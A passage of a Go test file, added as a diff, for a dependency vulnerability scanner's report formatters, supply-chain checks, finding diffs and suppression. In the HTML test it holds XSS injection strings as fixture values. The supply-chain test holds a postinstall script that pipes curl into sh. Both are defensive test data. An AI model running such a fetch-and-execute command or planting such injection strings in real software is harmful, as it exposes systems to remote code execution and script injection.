+			{ManifestPath: "/repo/go.mod", Error: errors.New("failed to parse go.mod")},
+		},
+	}
+
+	if _, ok := GetFormatter(FormatJUnit).(*JUnitFormatter); !ok {
+		t.Fatal("GetFormatter(FormatJUnit) did not return a JUnitFormatter")
+	}
+
+	formatted, err := (&JUnitFormatter{}).Format(output)
+	if err != nil {
+		t.Fatalf("JUnitFormatter.Format() unexpected error: %v", err)
+	}
+
+	// The description's markup must survive as text, not break the document
+	var report struct {
+		Tests    int `xml:"tests,attr"`
+		Failures int `xml:"failures,attr"`
+		Errors   int `xml:"errors,attr"`
+		Suites   []struct {
+			Name     string `xml:"name,attr"`
+			Tests    int    `xml:"tests,attr"`
+			Failures int    `xml:"failures,attr"`
+			Errors   int    `xml:"errors,attr"`
+			Cases    []struct {
+				Name    string `xml:"name,attr"`
+				Failure *struct {
+					Message string `xml:"message,attr"`
+				} `xml:"failure"`
+			} `xml:"testcase"`
+		} `xml:"testsuite"`
+	}
+	if err := xml.Unmarshal([]byte(formatted), &report); err != nil {
+		t.Fatalf("JUnitFormatter.Format() produced invalid XML: %v\n%s", err, formatted)
+	}
+
+	if report.Tests != 4 || report.Failures != 2 || report.Errors != 1 {
+		t.Errorf("testsuites counts = %d tests, %d failures, %d errors, expected 4, 2, 1", report.Tests, report.Failures, report.Errors)
+	}
+	if len(report.Suites) != 3 {
+		t.Fatalf("expected 3 test suites, got %d:\n%s", len(report.Suites), formatted)
+	}
+
+	api := report.Suites[0]
+	if api.Name != "api/requirements.txt" || api.Tests != 2 || api.Failures != 2 {
+		t.Errorf("api suite = %s with %d tests and %d failures, expected api/requirements.txt with 2 and 2", api.Name, api.Tests, api.Failures)
+	}
+	if api.Cases[0].Name != "PYSEC-2023-100" || api.Cases[0].Failure == nil || api.Cases[0].Failure.Message != `SQL injection via <QuerySet> & "extra"` {
+		t.Errorf("first api test case = %+v, expected a PYSEC-2023-100 failure with the description", api.Cases[0])
+	}
+
+	worker := report.Suites[1]
+	if worker.Name != "worker/requirements.txt" || worker.Tests != 1 || worker.Failures != 0 || worker.Cases[0].Failure != nil {
+		t.Errorf("clean manifest suite = %+v, expected one passing test case", worker)
+	}
+
+	if goSuite := report.Suites[2]; goSuite.Name != "go.mod" || goSuite.Errors != 1 {
+		t.Errorf("failed audit suite = %+v, expected one error", goSuite)
+	}
+}
+
+func TestCSVFormatter(t *testing.T) {
+	output := &ScanOutput{
+		Metadata:    OutputMetadata{Directory: "/repo"},
+		ScanResults: &scanner.ScanResult{},
+		PythonAuditResults: []*audit.PythonAuditResult{{
+			ManifestPath: "/repo/api/requirements.txt",
+			Vulnerabilities: []audit.PythonVulnerability{
+				{Name: "django", Version: "4.2.0", ID: "PYSEC-2023-100", Severity: "moderate", FixVersions: []string{"4.2.8", "3.2.23"}, IsDirect: true},
+			},
+		}},
+		GoAuditResults: []*audit.GoAuditResult{{
+			ManifestPath: "/repo/go.mod",
+			Vulnerabilities: []audit.GoVulnerability{
+				{Module: "golang.org/x/net", Version: "v0.17.0", ID: "GO-2023-2102", Severity: "high"},
+			},
+		}},
+		MavenAuditResults: []*audit.MavenAuditResult{{
+			ManifestPath: "/repo/pom.xml",
+			Vulnerabilities: []audit.MavenVulnerability{
+				{GroupID: "org.apache.logging.log4j", ArtifactID: "log4j-core", Version: "2.14.1", ID: "GHSA-jfh8-c2jp-5v3q", Severity: "critical", IsDirect: true},
+			},
+		}},
+	}
+
+	formatted, err := GetFormatter(FormatCSV).Format(output)
+	if err != nil {
+		t.Fatalf("CSVFormatter.Format() unexpected error: %v", err)
+	}
+
+	rows, err := csv.NewReader(strings.NewReader(formatted)).ReadAll()
+	if err != nil {
+		t.Fatalf("CSVFormatter.Format() produced invalid CSV: %v\n%s", err, formatted)
+	}
+	expected := [][]string{
+		{"ecosystem", "manifest", "package", "version", "id", "severity", "fix_versions", "dependency"},
+		{"python", "api/requirements.txt", "django", "4.2.0", "PYSEC-2023-100", "moderate", "4.2.8; 3.2.23", "direct"},
+		{"go", "go.mod", "golang.org/x/net", "v0.17.0", "GO-2023-2102", "high", "", "indirect"},
+		{"maven", "pom.xml", "org.apache.logging.log4j:log4j-core", "2.14.1", "GHSA-jfh8-c2jp-5v3q", "critical", "", "direct"},
+	}
+	if !reflect.DeepEqual(rows, expected) {
+		t.Errorf("CSVFormatter.Format() rows = %q, expected %q", rows, expected)
+	}
+
+	// A clean scan still gets a header for downstream tools
+	empty, err := GetFormatter(FormatCSV).Format(&ScanOutput{ScanResults: &scanner.ScanResult{}})
+	if err != nil {
+		t.Fatalf("CSVFormatter.Format() unexpected error: %v", err)
+	}
+	if empty != strings.Join(expected[0], ",")+"\n" {
+		t.Errorf("CSVFormatter.Format() of a clean scan = %q, expected only the header", empty)
+	}
+}
+
+func TestHTMLFormatter(t *testing.T) {
+	output := &ScanOutput{
+		Metadata:    OutputMetadata{Directory: "/repo", ToolName: "snoop", ToolVersion: "1.0.0"},
+		ScanResults: &scanner.ScanResult{},
+		PythonAuditResults: []*audit.PythonAuditResult{{
+			ManifestPath: "/repo/api/requirements.txt",
+			Vulnerabilities: []audit.PythonVulnerability{
+				{Name: "<script>alert(1)</script>", Version: "1.0", ID: "PYSEC-2023-100", Severity: "critical", Description: `Injection via "<img onerror>"`, FixVersions: []string{"1.1"}, IsDirect: true},
+				{Name: "django", Version: "4.2.0", ID: "PYSEC-2023-101", Severity: "moderate"},
+			},
+			Summary: audit.VulnerabilitySummary{Critical: 1, Moderate: 1, Total: 2},
+		}},
+		GoAuditResults: []*audit.GoAuditResult{{
+			ManifestPath: "/repo/go.mod",
+		}},
+		MavenAuditResults: []*audit.MavenAuditResult{{
+			ManifestPath: "/repo/pom.xml",
+			Error:        errors.New("failed to parse pom.xml"),
+		}},
+		TotalVulns: 2,
+	}
+
+	formatted, err := GetFormatter(FormatHTML).Format(output)
+	if err != nil {
+		t.Fatalf("HTMLFormatter.Format() unexpected error: %v", err)
+	}
+
+	for _, unescaped := range []string{"<script>alert(1)", "<img onerror>"} {
+		if strings.Contains(formatted, unescaped) {
+			t.Errorf("HTMLFormatter.Format() left %q unescaped", unescaped)
+		}
+	}
+	expected := []string{
+		"<!DOCTYPE html>",
+		"<style>",
+		"&lt;script&gt;alert(1)&lt;/script&gt;",
+		`<span class="badge critical">1 critical</span>`,
+		`<span class="badge moderate">1 moderate</span>`,
+		`<a href="https://osv.dev/vulnerability/PYSEC-2023-100">PYSEC-2023-100</a>`,
+		"<details open>\n<summary>api/requirements.txt",
+		"<details>\n<summary>go.mod",
+		"<details open>\n<summary>pom.xml",
+		"failed to parse pom.xml",
+		`<tr class="total"><td>Total</td><td class="num">1</td><td class="num">0</td><td class="num">1</td>`,
+	}
+	for _, want := range expected {
+		if !strings.Contains(formatted, want) {
+			t.Errorf("HTMLFormatter.Format() missing %q\n%s", want, formatted)
+		}
+	}
+	if strings.Contains(formatted, "<link") || strings.Contains(formatted, "<script") {
+		t.Error("HTMLFormatter.Format() should not reference external assets or scripts")
+	}
+}
+
+func TestGrepFormatter(t *testing.T) {
+	output := &ScanOutput{
+		Metadata:    OutputMetadata{Directory: "/repo"},
+		ScanResults: &scanner.ScanResult{},
+		AuditResults: []*audit.AuditResult{{
+			PackageJSONPath: "/repo/web/package.json",
+			Vulnerabilities: []audit.Vulnerability{
+				{Name: "minimist", Severity: audit.SeverityCritical, Via: []any{map[string]any{
+					"title": "Prototype Pollution in minimist", "severity": "critical",
+					"url": "https://github.com/advisories/GHSA-xvch-5gv4-984h",
+				}}},
+			},
+		}},
+		PythonAuditResults: []*audit.PythonAuditResult{{
+			ManifestPath: "/repo/api/requirements.txt",
+			Vulnerabilities: []audit.PythonVulnerability{
+				{Name: "django", Version: "4.2.0", ID: "PYSEC-2023-100", Severity: "MEDIUM"},
+				{Name: "jinja2", Version: "2.10", ID: "GHSA-462w-v97r-4m45", Severity: ""},
+			},
+		}},
+		GoAuditResults: []*audit.GoAuditResult{{
+			ManifestPath: "/repo/go.mod",
+			Vulnerabilities: []audit.GoVulnerability{
+				{Module: "stdlib", Version: "1.20.1", ID: "GO-2023-1621", Severity: "critical"},
+			},
+		}},
+	}
+
+	formatted, err := GetFormatter(FormatGrep).Format(output)
+	if err != nil {
+		t.Fatalf("GrepFormatter.Format() unexpected error: %v", err)
+	}
+
+	lines := strings.Split(strings.TrimSuffix(formatted, "\n"), "\n")
+	if len(lines) != 4 {
+		t.Fatalf("expected 4 lines, got %d:\n%s", len(lines), formatted)
+	}
+	var critical []string
+	for _, line := range lines {
+		fields := strings.Split(line, "\t")
+		if len(fields) != 5 {
+			t.Errorf("line %q has %d fields, expected 5", line, len(fields))
+			continue
+		}
+		if fields[0] == "critical" {
+			critical = append(critical, line)
+		}
+	}
+
+	expectedCritical := []string{
+		"critical\tnpm\tminimist\tGHSA-xvch-5gv4-984h\tweb/package.json",
+		"critical\tgo\tstdlib@1.20.1\tGO-2023-1621\tgo.mod",
+	}
+	if !reflect.DeepEqual(critical, expectedCritical) {
+		t.Errorf("critical lines = %q, expected %q", critical, expectedCritical)
+	}
+	if lines[1] != "moderate\tpython\tdjango@4.2.0\tPYSEC-2023-100\tapi/requirements.txt" {
+		t.Errorf("medium severity line = %q, expected it normalized to moderate", lines[1])
+	}
+	if !strings.HasPrefix(lines[2], "high\t") {
+		t.Errorf("unknown severity line = %q, expected it counted as high", lines[2])
+	}
+}
+
+func TestNpmAdvisoryDetails(t *testing.T) {
+	longTitle := "Regular Expression Denial of Service in a rarely used option | when parsing very long headers"
+	output := &ScanOutput{
+		Metadata:    OutputMetadata{ToolName: "snoop", Directory: "/repo"},
+		ScanResults: &scanner.ScanResult{},
+		AuditResults: []*audit.AuditResult{{
+			PackageJSONPath: "/repo/package.json",
+			Vulnerabilities: []audit.Vulnerability{
+				{Name: "minimist", Severity: audit.SeverityCritical, Range: "<1.2.6", IsDirect: true, Via: []any{
+					map[string]any{
+						"title": "Prototype Pollution in minimist", "url": "https://github.com/advisories/GHSA-xvch-5gv4-984h",
+						"cvss": map[string]any{"score": 9.8, "vectorString": "CVSS:3.1/AV:N"},
+					},
+					map[string]any{"title": longTitle, "url": "https://github.com/advisories/GHSA-aaaa-bbbb-cccc"},
+				}},
+				{Name: "mkdirp", Severity: audit.SeverityCritical, Range: "0.4.1 - 0.5.1", Via: []any{"minimist"}},
+				{Name: "lodash", Severity: audit.SeverityHigh, Range: "<4.17.21", Via: []any{"GHSA-35jh-r3h4-6jhm"}},
+			},
+		}},
+	}
+
+	table, err := GetFormatter(FormatTable).Format(output)
+	if err != nil {
+		t.Fatalf("TableFormatter.Format() unexpected error: %v", err)
+	}
+	for _, want := range []string{
+		"  GHSA-xvch-5gv4-984h: Prototype Pollution in minimist (CVSS 9.8) https://github.com/advisories/GHSA-xvch-5gv4-984h\n",
+		"  GHSA-aaaa-bbbb-cccc: " + longTitle[:57] + "... https://github.com/advisories/GHSA-aaaa-bbbb-cccc\n",
+		"  Via: minimist\n",
+		"  GHSA-35jh-r3h4-6jhm https://osv.dev/vulnerability/GHSA-35jh-r3h4-6jhm\n",
+	} {
+		if !strings.Contains(table, want) {
+			t.Errorf("TableFormatter.Format() missing %q\n%s", want, table)
+		}
+	}
+
+	markdown, err := GetFormatter(FormatMarkdown).Format(output)
+	if err != nil {
+		t.Fatalf("MarkdownFormatter.Format() unexpected error: %v", err)
+	}
+	for _, want := range []string{
+		"| Package | Severity | Range | Direct | Fix | Advisory | Description |",
+		"| [GHSA-xvch-5gv4-984h](https://github.com/advisories/GHSA-xvch-5gv4-984h)<br>[GHSA-aaaa-bbbb-cccc](https://github.com/advisories/GHSA-aaaa-bbbb-cccc) | Prototype Pollution in minimist (CVSS 9.8)<br>" + strings.ReplaceAll(longTitle, "|", "\\|") + " |",
+		"| `mkdirp` | 🔴 Critical | `0.4.1 - 0.5.1` | No | N/A |  | Via `minimist` |",
+		"| [GHSA-35jh-r3h4-6jhm](https://osv.dev/vulnerability/GHSA-35jh-r3h4-6jhm) |  |",
+	} {
+		if !strings.Contains(markdown, want) {
+			t.Errorf("MarkdownFormatter.Format() missing %q\n%s", want, markdown)
+		}
+	}
+}
+
+func TestSupplyChainSection(t *testing.T) {
+	output := &ScanOutput{
+		ScanResults: &scanner.ScanResult{},
+		SecurityResults: []*security.ManifestReport{{
+			PackageJSONPath: "web/package.json",
+			Checked:         12,
+			Reports: []*security.SecurityReport{{
+				PackageName:       "lodahs",
+				TyposquattingRisk: &security.TyposquattingRisk{PackageName: "lodahs", SimilarTo: "lodash", Distance: 2, Confidence: "medium"},
+				SuspiciousPatterns: []*security.SuspiciousPattern{
+					{PackageName: "lodahs", ScriptType: "postinstall", ScriptContent: "curl https://example.com | sh", RiskLevel: "high"},
+				},
+				OverallRiskLevel: "high",
+			}},
+			Warnings: []string{"install scripts of left-pad not checked"},
+		}},
+	}
+
+	jsonReport, err := (&JSONFormatter{}).Format(output)
+	if err != nil {
+		t.Fatalf("JSONFormatter.Format() unexpected error: %v", err)
+	}
+	var parsed JSONOutput
+	if err := json.Unmarshal([]byte(jsonReport), &parsed); err != nil {
+		t.Fatalf("JSONFormatter.Format() produced invalid JSON: %v", err)
+	}
+	if len(parsed.SupplyChain) != 1 || parsed.SupplyChain[0].DependenciesChecked != 12 || len(parsed.SupplyChain[0].Findings) != 1 {
+		t.Fatalf("JSON supplyChain = %+v, expected one manifest with one finding", parsed.SupplyChain)
+	}
+	if finding := parsed.SupplyChain[0].Findings[0]; finding.TyposquattingRisk == nil || finding.OverallRiskLevel != "high" {
+		t.Errorf("JSON supply chain finding = %+v", finding)
+	}
+	if len(parsed.Errors) != 1 || parsed.Errors[0].Source != "web/package.json" {
+		t.Errorf("JSON errors = %+v, expected the supply chain warning", parsed.Errors)
+	}
+
+	table, err := (&TableFormatter{}).Format(output)
+	if err != nil {
+		t.Fatalf("TableFormatter.Format() unexpected error: %v", err)
+	}
+	for _, expected := range []string{"Supply chain checks: web/package.json", "Name is similar to lodash (medium confidence typosquat)", "postinstall script: curl https://example.com | sh"} {
+		if !strings.Contains(table, expected) {
+			t.Errorf("TableFormatter.Format() missing %q:\n%s", expected, table)
+		}
+	}
+
+	markdown, err := (&MarkdownFormatter{}).Format(output)
+	if err != nil {
+		t.Fatalf("MarkdownFormatter.Format() unexpected error: %v", err)
+	}
+	if !strings.Contains(markdown, "| `lodahs` | high | Name is similar to lodash (medium confidence typosquat)<br>postinstall script: curl https://example.com \\| sh |") {
+		t.Errorf("MarkdownFormatter.Format() missing supply chain row:\n%s", markdown)
+	}
+
+	// Without supply chain checks the section is left out
+	output.SecurityResults = nil
+	if markdown, _ := (&MarkdownFormatter{}).Format(output); strings.Contains(markdown, "Supply Chain") {
+		t.Errorf("MarkdownFormatter.Format() rendered supply chain section without results:\n%s", markdown)
+	}
+}
+
+func TestCycloneDXFormatter(t *testing.T) {
+	output := &ScanOutput{
+		Metadata:    OutputMetadata{Directory: "/src/shop", ToolName: "Snoop", ToolVersion: "0.1.0", Timestamp: time.Date(2024, 5, 1, 12, 0, 0, 0, time.UTC)},
+		ScanResults: &scanner.ScanResult{},
+		AuditResults: []*audit.AuditResult{{
+			PackageJSONPath: "/src/shop/web/package.json",
+			Dependencies: []audit.NpmPackage{
+				{Name: "@babel/core", Version: "7.22.0", IsDirect: true},
+				{Name: "lodash", Version: "4.17.19"},
+			},
+			// npm audit reports ranges, not the installed version
+			Vulnerabilities: []audit.Vulnerability{
+				{Name: "lodash", Severity: audit.SeverityHigh, Via: []any{
+					map[string]any{"url": "https://github.com/advisories/GHSA-p6mc-m468-83gw", "title": "Prototype Pollution", "severity": "high"},
+				}},
+			},
+		}},
+		PythonAuditResults: []*audit.PythonAuditResult{{
+			ManifestPath: "/src/shop/api/requirements.txt",
+			Dependencies: []audit.PythonPackage{{Name: "Django", Version: "3.2.0", IsDirect: true}},
+			Vulnerabilities: []audit.PythonVulnerability{
+				{Name: "Django", Version: "3.2.0", ID: "PYSEC-2021-98", Severity: "critical", FixVersions: []string{"3.2.4"}},
+			},
+		}},
+		GoAuditResults: []*audit.GoAuditResult{{
+			ManifestPath: "/src/shop/go.mod",
+			Dependencies: []audit.GoModule{
+				{Path: "github.com/gin-gonic/gin", Version: "v1.7.0"},
+				{Path: "golang.org/x/sys", Version: "v0.1.0", Indirect: true},
+			},
+		}},
+		MavenAuditResults: []*audit.MavenAuditResult{{
+			ManifestPath: "/src/shop/pom.xml",
+			Dependencies: []audit.MavenDependency{{GroupID: "org.apache.logging.log4j", ArtifactID: "log4j-core", Version: "2.14.1"}},
+			Vulnerabilities: []audit.MavenVulnerability{
+				{GroupID: "org.apache.logging.log4j", ArtifactID: "log4j-core", Version: "2.14.1", ID: "GHSA-jfh8-c2jp-5v3q", Severity: "critical"},
+			},
+		}},
+	}
+
+	report, err := (&CycloneDXFormatter{}).Format(output)
+	if err != nil {
+		t.Fatalf("CycloneDXFormatter.Format() unexpected error: %v", err)
+	}
+
+	var bom cycloneDXBOM
+	if err := json.Unmarshal([]byte(report), &bom); err != nil {
+		t.Fatalf("CycloneDXFormatter.Format() produced invalid JSON: %v", err)
+	}
+	if bom.BOMFormat != "CycloneDX" || bom.SpecVersion != "1.5" || !strings.HasPrefix(bom.SerialNumber, "urn:uuid:") {
+		t.Errorf("BOM header = %q %q %q", bom.BOMFormat, bom.SpecVersion, bom.SerialNumber)
+	}
+	if bom.Metadata.Component.Name != "shop" || bom.Metadata.Timestamp != "2024-05-01T12:00:00Z" {
+		t.Errorf("BOM metadata = %+v", bom.Metadata)
+	}
+
+	var purls []string
+	for _, component := range bom.Components {
+		purls = append(purls, component.PURL)
+		if component.BOMRef != component.PURL {
+			t.Errorf("component %s has bom-ref %s, expected its purl", component.PURL, component.BOMRef)
+		}
+	}
+	expectedPURLs := []string{
+		"pkg:golang/github.com/gin-gonic/gin@v1.7.0",
+		"pkg:golang/golang.org/x/sys@v0.1.0",
+		"pkg:maven/org.apache.logging.log4j/log4j-core@2.14.1",
+		"pkg:npm/%40babel/core@7.22.0",
+		"pkg:npm/lodash@4.17.19",
+		"pkg:pypi/django@3.2.0",
+	}
+	if !reflect.DeepEqual(purls, expectedPURLs) {
+		t.Errorf("component purls = %v, expected %v", purls, expectedPURLs)
+	}
+	if babel := bom.Components[3]; babel.Group != "@babel" || babel.Name != "core" {
+		t.Errorf("scoped npm component = %+v, expected group @babel and name core", babel)
+	}
+
+	expectedDirect := []string{
+		"pkg:golang/github.com/gin-gonic/gin@v1.7.0",
+		"pkg:maven/org.apache.logging.log4j/log4j-core@2.14.1",
+		"pkg:npm/%40babel/core@7.22.0",
+		"pkg:pypi/django@3.2.0",
+	}
+	if len(bom.Dependencies) != 1 || bom.Dependencies[0].Ref != bom.Metadata.Component.BOMRef || !reflect.DeepEqual(bom.Dependencies[0].DependsOn, expectedDirect) {
+		t.Errorf("dependencies = %+v, expected the project to depend on %v", bom.Dependencies, expectedDirect)
+	}
+
+	affects := make(map[string]string)
+	for _, vuln := range bom.Vulnerabilities {
+		if len(vuln.Affects) != 1 {
+			t.Errorf("vulnerability %s affects %+v, expected one component", vuln.ID, vuln.Affects)
+			continue
+		}
+		affects[vuln.ID] = vuln.Affects[0].Ref + " " + vuln.Ratings[0].Severity
+	}
+	expectedAffects := map[string]string{
+		"GHSA-p6mc-m468-83gw": "pkg:npm/lodash@4.17.19 high",
+		"PYSEC-2021-98":       "pkg:pypi/django@3.2.0 critical",
+		"GHSA-jfh8-c2jp-5v3q": "pkg:maven/org.apache.logging.log4j/log4j-core@2.14.1 critical",
+	}
+	if !reflect.DeepEqual(affects, expectedAffects) {
+		t.Errorf("vulnerabilities = %v, expected %v", affects, expectedAffects)
+	}
+
+	// Normalized output must not change between runs
+	output.Metadata.Timestamp = time.Time{}
+	first, _ := (&CycloneDXFormatter{}).Format(output)
+	second, _ := (&CycloneDXFormatter{}).Format(output)
+	if first != second || strings.Contains(first, "serialNumber") {
+		t.Errorf("CycloneDXFormatter.Format() without a timestamp should be deterministic and have no serial number")
+	}
+}
+
+func TestDiffFindings(t *testing.T) {
+	scan := func(vulns ...audit.PythonVulnerability) *ScanOutput {
+		return &ScanOutput{
+			ScanResults:        &scanner.ScanResult{},
+			PythonAuditResults: []*audit.PythonAuditResult{{ManifestPath: "requirements.txt", Vulnerabilities: vulns}},
+		}
+	}
+	flask := audit.PythonVulnerability{Name: "flask", Version: "2.0.0", ID: "GHSA-m2qf-hxjv-5gpq", Severity: "high"}
+	jinja := audit.PythonVulnerability{Name: "jinja2", Version: "3.0.0", ID: "GHSA-h5c8-rqwp-cp95", Severity: "moderate"}
+	upgraded := jinja
+	upgraded.Version = "3.1.2"
+
+	if diff := DiffFindings(nil, scan(flask)); len(diff.New) != 1 || len(diff.Resolved) != 0 {
+		t.Errorf("DiffFindings(nil, ...) = %+v, expected every finding new", diff)
+	}
+
+	diff := DiffFindings(scan(flask, jinja), scan(jinja, flask))
+	if diff.Changed() {
+		t.Errorf("DiffFindings() of reordered findings = %+v, expected no change", diff)
+	}
+
+	// A finding at another version is a different finding
+	diff = DiffFindings(scan(flask, jinja), scan(upgraded))
+	if len(diff.New) != 1 || diff.New[0].Version != "3.1.2" {
+		t.Errorf("DiffFindings() new = %+v, expected jinja2@3.1.2", diff.New)
+	}
+	if len(diff.Resolved) != 2 || diff.Resolved[0].Package != "flask" || diff.Resolved[1].Package != "jinja2" {
+		t.Errorf("DiffFindings() resolved = %+v, expected flask and jinja2@3.0.0", diff.Resolved)
+	}
+	expected := "GHSA-m2qf-hxjv-5gpq HIGH in flask@2.0.0 (requirements.txt)"
+	if got := diff.Resolved[0].String(); got != expected {
+		t.Errorf("FindingChange.String() = %q, expected %q", got, expected)
+	}
+}
+
+func TestSuppressDropsSuppressedFindings(t *testing.T) {
+	output := &ScanOutput{
+		ScanResults: &scanner.ScanResult{},
+		AuditResults: []*audit.AuditResult{{
+			PackageJSONPath: "package.json",
+			Vulnerabilities: []audit.Vulnerability{
+				{Name: "lodash", Severity: audit.SeverityHigh, IsDirect: true, Via: []any{"GHSA-jf85-cpcp-j695"}},
+				{Name: "minimist", Severity: audit.SeverityCritical, Via: []any{"GHSA-xvch-5gv4-984h", "GHSA-vh95-rmgr-6w4m"}},
+			},
+			Summary: audit.VulnerabilitySummary{Total: 2, Critical: 1, High: 1, Direct: 1, Transitive: 1},
+		}},
+		GoAuditResults: []*audit.GoAuditResult{{
+			ManifestPath: "go.mod",
+			Vulnerabilities: []audit.GoVulnerability{
+				{Module: "golang.org/x/net", ID: "GO-2023-2102", Severity: "high", IsDirect: true},
+			},
+			Summary: audit.VulnerabilitySummary{Total: 1, High: 1, Direct: 1},
+		}},
+		TotalVulns: 3,
+	}
+
+	Suppress(output, []audit.Suppression{
+		{ID: "GHSA-jf85-cpcp-j695", Package: "lodash"},
+		{ID: "GHSA-xvch-5gv4-984h"}, // minimist has a second advisory, so it stays
+		{ID: "GO-2023-2102"},
+	})
+
+	if output.Suppressed != 2 {
+		t.Errorf("Suppressed = %d, expected 2", output.Suppressed)
+	}
+	if output.TotalVulns != 1 {
+		t.Errorf("TotalVulns = %d, expected 1", output.TotalVulns)
+	}
+	npm := output.AuditResults[0].Vulnerabilities
+	if len(npm) != 1 || npm[0].Name != "minimist" {
+		t.Errorf("npm vulnerabilities = %+v, expected only minimist", npm)
+	}
+	if len(output.GoAuditResults[0].Vulnerabilities) != 0 {
+		t.Errorf("Go vulnerabilities = %+v, expected none", output.GoAuditResults[0].Vulnerabilities)
+	}
+}
+
+func TestDirectColumnForGoPythonAndMaven(t *testing.T) {
+	output := &ScanOutput{
+		ScanResults: &scanner.ScanResult{},
+		PythonAuditResults: []*audit.PythonAuditResult{{
+			ManifestPath:    "/repo/poetry.lock",
+			ManifestType:    "poetry.lock",
+			Vulnerabilities: []audit.PythonVulnerability{{Name: "werkzeug", Version: "2.2.2", ID: "PYSEC-2023-58", Severity: "high"}},
+			Summary:         audit.VulnerabilitySummary{High: 1, Total: 1, Transitive: 1},
+		}},
+		GoAuditResults: []*audit.GoAuditResult{{
+			ManifestPath: "/repo/go.mod",
+			Vulnerabilities: []audit.GoVulnerability{
+				{Module: "github.com/gin-gonic/gin", Version: "v1.7.0", ID: "GO-2023-1737", Severity: "moderate", IsDirect: true},
+				{Module: "golang.org/x/net", Version: "v0.7.0", ID: "GO-2023-1571", Severity: "high"},
+			},
+			Summary: audit.VulnerabilitySummary{High: 1, Moderate: 1, Total: 2, Direct: 1, Transitive: 1},
+		}},
+		MavenAuditResults: []*audit.MavenAuditResult{{
+			ManifestPath:    "/repo/pom.xml",
+			Vulnerabilities: []audit.MavenVulnerability{{GroupID: "org.apache.logging.log4j", ArtifactID: "log4j-core", Version: "2.14.1", ID: "GHSA-jfh8-c2jp-5v3q", Severity: "critical", IsDirect: true}},
+			Summary:         audit.VulnerabilitySummary{Critical: 1, Total: 1, Direct: 1},
+		}},
+		TotalVulns: 4,
+	}
+
+	table, err := (&TableFormatter{}).Format(output)
+	if err != nil {
+		t.Fatalf("TableFormatter.Format() unexpected error: %v", err)
+	}
+	for _, row := range []string{
+		fmt.Sprintf("%-40s %-12s %-20s %-8s %s", "Package", "Version", "Vulnerability ID", "Direct", "Fix Versions"),
+		fmt.Sprintf("%-40s %-12s %-20s %-8s %s", "werkzeug", "2.2.2", "PYSEC-2023-58", "No", "N/A"),
+		fmt.Sprintf("%-40s %-12s %-20s %-8s %s", "github.com/gin-gonic/gin", "v1.7.0", "GO-2023-1737", "Yes", "N/A"),
+		fmt.Sprintf("%-40s %-12s %-20s %-8s %s", "golang.org/x/net", "v0.7.0", "GO-2023-1571", "No", "N/A"),
+		fmt.Sprintf("%-40s %-12s %-20s %-8s %s", "org.apache.logging.log4j:log4j-core", "2.14.1", "GHSA-jfh8-c2jp-...", "Yes", "N/A"),
+	} {
+		if !strings.Contains(table, row) {
+			t.Errorf("table output missing row %q:\n%s", row, table)
+		}
+	}
+
+	markdown, err := (&MarkdownFormatter{}).Format(output)
+	if err != nil {
+		t.Fatalf("MarkdownFormatter.Format() unexpected error: %v", err)
+	}
+	for _, row := range []string{
+		"| `werkzeug` | `2.2.2` | `PYSEC-2023-58` | No |",
+		"| `github.com/gin-gonic/gin` | `v1.7.0` | `GO-2023-1737` | Yes |",
+		"| `golang.org/x/net` | `v0.7.0` | `GO-2023-1571` | No |",
+		"| `org.apache.logging.log4j:log4j-core` | `2.14.1` | `GHSA-jfh8-c2jp-5v3q` | Yes |",
+	} {
+		if !strings.Contains(markdown, row) {
+			t.Errorf("markdown output missing row %q:\n%s", row, markdown)
+		}
+	}
+}
+
+func TestNpmFixAvailableIsShown(t *testing.T) {
+	output := &ScanOutput{
+		ScanResults: &scanner.ScanResult{},
+		AuditResults: []*audit.AuditResult{{
+			PackageJSONPath: "package.json",
+			Vulnerabilities: []audit.Vulnerability{
+				{Name: "lodash", Severity: audit.SeverityHigh, Range: "<4.17.21", IsDirect: true, Via: []any{"GHSA-35jh-r3h4-6jhm"},
+					FixAvailable: audit.FixAvailable{Available: true, Name: "lodash", Version: "4.17.21"}},
+				{Name: "request", Severity: audit.SeverityModerate, Range: "*", Via: []any{"GHSA-p8p7-x288-28g6"},
+					FixAvailable: audit.FixAvailable{Available: true, Name: "jest", Version: "29.0.0", IsSemVerMajor: true}},
+				{Name: "minimist", Severity: audit.SeverityCritical, Range: "<1.2.6", Via: []any{"GHSA-xvch-5gv4-984h"},
+					FixAvailable: audit.FixAvailable{Available: true}},
+				{Name: "left-pad", Severity: audit.SeverityLow, Range: "*", Via: []any{"GHSA-aaaa-bbbb-cccc"}},
+			},
+		}},
+	}
+
+	table, err := (&TableFormatter{}).Format(output)
+	if err != nil {
+		t.Fatalf("TableFormatter.Format() unexpected error: %v", err)
+	}
+	markdown, err := (&MarkdownFormatter{}).Format(output)
+	if err != nil {
+		t.Fatalf("MarkdownFormatter.Format() unexpected error: %v", err)
+	}
+	for _, want := range []string{"lodash@4.17.21", "jest@29.0.0, breaking (major)", "npm audit fix"} {
+		if !strings.Contains(table, want) {
+			t.Errorf("table output missing fix %q:\n%s", want, table)
+		}
+		if !strings.Contains(markdown, "| "+want+" |") {
+			t.Errorf("markdown output missing fix %q:\n%s", want, markdown)
+		}
+	}
+	if !strings.Contains(markdown, "| `left-pad` | 🔵 Low | `*` | No | N/A |") {
+		t.Errorf("markdown output should show N/A for a finding without a fix:\n%s", markdown)
+	}
+
+	// JSON carries the parsed fix rather than npm's raw field
+	jsonOutput, err := (&JSONFormatter{}).Format(output)
+	if err != nil {
+		t.Fatalf("JSONFormatter.Format() unexpected error: %v", err)
+	}
+	var parsed struct {
+		Audits []struct {
+			Vulnerabilities []struct {
+				Name         string         `json:"name"`
+				FixAvailable map[string]any `json:"fixAvailable"`
+			} `json:"vulnerabilities"`
+		} `json:"audits"`
+	}
+	if err := json.Unmarshal([]byte(jsonOutput), &parsed); err != nil {
+		t.Fatalf("Failed to parse JSON output: %v", err)
+	}
+	expected := map[string]map[string]any{
+		"lodash":   {"available": true, "name": "lodash", "version": "4.17.21"},
+		"request":  {"available": true, "name": "jest", "version": "29.0.0", "isSemVerMajor": true},
+		"minimist": {"available": true},
+		"left-pad": nil,
+	}
+	for _, vuln := range parsed.Audits[0].Vulnerabilities {
+		if !reflect.DeepEqual(vuln.FixAvailable, expected[vuln.Name]) {
+			t.Errorf("%s fixAvailable = %v, expected %v", vuln.Name, vuln.FixAvailable, expected[vuln.Name])
+		}
+	}
+
+	// An upgrade of the vulnerable package itself is its fix version
+	findings := collectFindings(output)
+	for _, finding := range findings {
+		switch finding.pkg {
+		case "lodash":
+			if !slices.Equal(finding.fixVersions, []string{"4.17.21"}) {
+				t.Errorf("lodash fixVersions = %v, expected [4.17.21]", finding.fixVersions)
+			}
